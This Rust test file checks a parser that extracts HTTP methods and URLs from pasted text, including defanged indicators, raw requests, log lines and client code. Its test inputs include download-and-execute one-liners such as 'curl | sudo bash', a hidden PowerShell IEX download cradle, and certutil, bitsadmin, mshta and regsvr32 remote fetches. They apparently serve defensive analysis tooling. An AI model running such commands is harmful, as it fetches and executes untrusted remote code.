use super::*;

/// Method and URL of each request, and the code of the first finding.
fn check(text: &str, expect: &str, code: &str) {
    let mut findings = Findings::new(&"request".into());
    let requests = read(text, &mut findings);
    let found: Vec<_> = requests
        .iter()
        .map(|request| [&request.method[..], b" ", &request.url()].concat())
        .map(|line| String::from_utf8(line).unwrap())
        .collect();
    assert_eq!(found.join("\n"), expect, "{text}");
    let found = findings.into_list();
    assert_eq!(found.first().map_or("", |found| found.diagnostic.code.id), code, "{text}");
}

#[test]
#[expect(clippy::too_many_lines, reason = "one table")]
fn the_form_is_told_by_the_text() {
    for (text, expect, code) in [
        ("https://a.example/x#f\n", "GET https://a.example/x", ""),
        ("hxxps[:]//a[.]example/x", "GET https://a.example/x", ""),
        ("a[.]example", "GET http://a.example/", ""),
        ("a.example/x", "GET http://a.example/x", ""),
        ("curl -X POST https://a.example/x", "POST https://a.example/x", ""),
        ("/usr/bin/curl https://a.example/x", "GET https://a.example/x", ""),
        ("$ curl https://a.example/x", "GET https://a.example/x", ""),
        ("C:\\Users\\x>curl https://a.example/x", "GET https://a.example/x", ""),
        ("curl -s https://a.example/x 2>/dev/null | sudo bash", "GET https://a.example/x", ""),
        (
            "curl -so a https://a.example/x && curl -so b https://a.example/y; rm a",
            "GET https://a.example/x\nGET https://a.example/y",
            "",
        ),
        ("bash -c \"$(curl -fsSL https://a.example/x)\"", "GET https://a.example/x", ""),
        ("sh -c 'wget -qO- a.example/x'", "GET http://a.example/x", ""),
        ("cmd.exe /c curl -o x https://a.example/x", "GET https://a.example/x", ""),
        (
            "cd /tmp; wget http://a.example/x || curl -O http://a.example/y",
            "GET http://a.example/x\nGET http://a.example/y",
            "",
        ),
        ("A=b nohup timeout 5s curl http://a.example/x &", "GET http://a.example/x", ""),
        ("curl http://a.example/x?a=1&b=2", "GET http://a.example/x?a=1", "R008"),
        ("curl hxxp://a[.]example/x", "GET http://a.example/x", ""),
        ("\"hxxps://a[.]example/x\",\n", "GET https://a.example/x", ""),
        (
            "- hxxps://a[.]example/x\n2. b[.]example/y\n",
            "GET https://a.example/x\nGET http://b.example/y",
            "",
        ),
        ("URL: hxxps://a[.]example/x", "GET https://a.example/x", ""),
        ("curl –X POST “https://a.example/x” —data ‘a=b’", "POST https://a.example/x", "R008"),
        (
            "    POST /x HTTP/1.1\\r\\n\n    Host: a.example\\r\\n\n    User-Agent: curl/8\\r\\n\n    \\r\\n\n",
            "POST http://a.example/x",
            "",
        ),
        (
            "TOKEN = '1:x'\nrequests.post(f\"https://a.example/bot{TOKEN}/y\")\n",
            "POST https://a.example/bot1:x/y",
            "",
        ),
        (
            "const token = \"1:x\";\nawait fetch(`https://a.example/bot${token}/y`, {method: \"POST\"});\n",
            "POST https://a.example/bot1:x/y",
            "",
        ),
        ("requests.get(f\"https://a.example/{page}\")\n", "GET https://a.example/{page}", "R008"),
        ("wget https://a.example", "GET https://a.example/", ""),
        ("iwr https://a.example/x -OutFile y", "GET https://a.example/x", ""),
        ("PS C:\\> irm https://a.example/x | iex", "GET https://a.example/x", ""),
        (
            "powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://a.example/x')\"",
            "GET http://a.example/x",
            "",
        ),
        (
            "await fetch(\"https://a.example/x\", {\n  \"method\": \"POST\"\n});",
            "POST https://a.example/x",
            "",
        ),
        (
            "import requests\n\nurl = 'https://a.example/x'\nr = requests.post(url, data={})\n",
            "POST https://a.example/x",
            "",
        ),
        (
            "python3 -c \"import requests; requests.get('https://a.example/x', params={'q': 'a b'})\"",
            "GET https://a.example/x?q=a+b",
            "",
        ),
        (r#"{"method":"GET","authority":"a.example","path":"/x"}"#, "GET http://a.example/x", ""),
        (
            "{\n\"method\":\"GET\",\"authority\":\"a.example\",\n\"path\":\"/x\"}",
            "GET http://a.example/x",
            "",
        ),
        (r#"{"authority":"a.example","path":"/x"}"#, "", "R010"),
        ("CONNECT a.example:443 HTTP/1.1", "CONNECT a.example:443", ""),
        ("PUT https://a.example/x HTTP/1.1\nCookie: a\n", "PUT https://a.example/x", ""),
        ("GET /x HTTP/1.1\nHost: a.example\n\n", "GET http://a.example/x", ""),
        (
            ":method: PUT\n:authority: a.example\n:path: /x\n:scheme: https",
            "PUT https://a.example/x",
            "",
        ),
        (":authority: a.example\n:path: /x\n:scheme: https", "", "R001"),
        (
            "192.0.2.7 - - [20/Nov/2026:08:00:00 +0000] \"GET http://a.example/x HTTP/1.1\" 200 5 \"-\" \"-\"",
            "GET http://a.example/x",
            "",
        ),
        (
            "https://a.example/x\n# note\n\ncurl https://a.example/y \\\n -X PUT\nGET /z HTTP/1.1\nHost: a.example\n",
            "GET https://a.example/x\nPUT https://a.example/y\nGET http://a.example/z",
            "",
        ),
        ("a.example", "", "R011"),
        ("rules/x.yml", "", "R011"),
        ("", "", "R011"),
        ("what is this\nand this", "", "R011"),
        ("https:///x", "", "R002"),
        ("https://a.example:99999/x", "", "R002"),
        ("/x HTTP/1.1\nHost: a.example", "", "R011"),
    ] {
        check(text, expect, code);
    }
}

#[test]
fn clients_of_other_languages_and_systems_are_read() {
    let get = "GET https://a.example/x";
    let twice = "GET https://a.example/x\nGET https://a.example/x";
    let bits = "HEAD https://a.example/x\nGET https://a.example/x";
    for (text, expect) in [
        ("axios.get('https://a.example/x').then(r => r)", get),
        (
            "const r = await axios.post(\"https://a.example/x\", {a: 1});",
            "POST https://a.example/x",
        ),
        ("import got from 'got';\n\nawait got('https://a.example/x');", get),
        ("require('https').get('https://a.example/x', r => r.pipe(process.stdout))", get),
        ("node -e \"require('https').get('https://a.example/x')\"", get),
        ("node -e \"fetch('https://a.example/x')\"", get),
        (
            "import httpx\nasync with httpx.AsyncClient() as c:\n    await c.get('https://a.example/x')",
            get,
        ),
        (
            "import aiohttp\nasync with aiohttp.ClientSession() as session:\n    async with session.post('https://a.example/x', json={}) as r:\n        pass",
            "POST https://a.example/x",
        ),
        (
            "python3 -c \"import urllib.request; urllib.request.urlretrieve('https://a.example/x', 'y')\"",
            get,
        ),
        (
            "import http.client\nc = http.client.HTTPSConnection('a.example')\nc.request('PUT', '/x', body)",
            "PUT https://a.example/x",
        ),
        (
            "import urllib3\nhttp = urllib3.PoolManager()\nhttp.request('GET', 'https://a.example/x')",
            get,
        ),
        ("php -r \"echo file_get_contents('https://a.example/x');\"", get),
        ("$ch = curl_init('https://a.example/x'); curl_exec($ch);", get),
        (
            "bitsadmin /create j & bitsadmin /addfile j https://a.example/x y & bitsadmin /resume j",
            bits,
        ),
        ("<?php\n$c = curl_init('https://a.example/x');\ncurl_exec($c);\n?>", get),
        ("certutil.exe -urlcache -split -f https://a.example/x C:\\y", twice),
        ("cmd /c certutil -urlcache -f https://a.example/x y && y", twice),
        ("bitsadmin /transfer j https://a.example/x C:\\y", bits),
        ("powershell Start-BitsTransfer -Source https://a.example/x -Destination y", bits),
        ("Start-BitsTransfer -Source https://a.example/x -Destination y", bits),
        ("mshta https://a.example/x", get),
        ("C:\\Windows\\System32\\regsvr32.exe /s /n /u /i:https://a.example/x scrobj.dll", get),
        ("msiexec /q /i https://a.example/x", get),
        ("aria2c -x 8 -o y https://a.example/x", get),
        ("http POST https://a.example/x a=b User-Agent:u", "POST https://a.example/x"),
        ("https a.example/x", get),
        ("$ http --form https://a.example/x f=g", "POST https://a.example/x"),
        (
            "Request URL\nhttps://a.example/x\nRequest Method\nPUT\nStatus Code\n200 OK\n",
            "PUT https://a.example/x",
        ),
        (
            "Request URL: https://a.example/x\nRequest Method: GET\n\nhttps://b.example/y",
            "GET https://a.example/x\nGET https://b.example/y",
        ),
        (":authority\na.example\n:method\nGET\n:path\n/x\n:scheme\nhttps\naccept\n*/*", get),
        // Lines of logs that are not Envoy's.
        (
            r#"{"event_type":"alert","flow_id":1,"src_ip":"10.0.1.7","http":{"hostname":"a.example","url":"/x","http_method":"GET"}}"#,
            "GET http://a.example/x",
        ),
        (r#"{"httpRequest":{"requestMethod":"GET","requestUrl":"https://a.example/x"}}"#, get),
        (
            r#"{"log":"{\"method\":\"GET\",\"authority\":\"a.example\",\"path\":\"/x\"}\n","stream":"stdout"}"#,
            "GET http://a.example/x",
        ),
        (
            "<134>Nov 20 08:00:00 fw squid[1]: 1795161600.253    325 10.0.1.7 TCP_MISS/200 2912 GET http://a.example/x - HIER_DIRECT/192.0.2.12 -",
            "GET http://a.example/x",
        ),
    ] {
        check(text, expect, "");
    }
    for (text, code) in [
        ("ssh -L 8080:a.example:80 b.example", "R011"),
        ("http is a protocol", "R011"),
        ("certutil -hashfile x SHA256", "R006"),
        ("http --frobnicate https://a.example/x", "R007"),
        ("aria2c -i urls.txt", "R007"),
        ("axios.get(url)", "R002"),
        ("Request URL\n", "R002"),
    ] {
        check(text, "", code);
    }
}
